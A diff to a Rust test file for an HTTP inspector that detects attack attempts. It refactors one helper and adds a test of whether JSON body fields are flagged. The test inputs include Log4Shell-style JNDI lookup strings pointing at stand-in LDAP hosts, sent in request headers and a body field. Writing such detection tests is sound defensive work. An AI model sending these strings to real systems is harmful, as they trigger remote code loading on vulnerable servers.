@@ -6,7 +6,7 @@ fn attempts(request: &str, response: &str) -> Vec<(AttemptKind, String, bool, Ev
     let mut inspector = Inspector::new(Config::new(TokenKey::new([7; 32])));
     let observation = inspector.exchange(exchange(1, request.as_bytes(), response.as_bytes()));
     let found = observation.attempts.into_iter().flatten();
-    found.map(|one| (one.kind, one.name.to_string(), one.sure, one.evidence)).collect()
+    found.map(|one| (one.kind, one.name.to_string(), one.is_certain(), one.evidence)).collect()
 }
 
 fn query(value: &str) -> Vec<AttemptKind> {
@@ -258,6 +258,13 @@ fn names_for_people_hold_no_numbers_or_addresses() {
 
 #[test]
 fn lookups_in_any_header_field_are_seen() {
+    let told = |field: &str| {
+        let body = format!(
+            r#"{{"{field}":"somebody posted ${{jndi:ldap://mail.example/x}} in our forum last night"}}"#
+        );
+        of_body(LOGIN, &body, "").iter().any(|one| one.2)
+    };
+    assert!(!told("text") && told("q") && told("nickname"));
     for name in ["X-Forwarded-For", "Accept", "Accept-Language", "Authorization", "Referer", "User-Agent"] {
         let request = format!("GET / HTTP/1.1\r\nHost: shop\r\n{name}: ${{jndi:ldap://x.test/a}}\r\n\r\n");
         let found = attempts(&request, "");
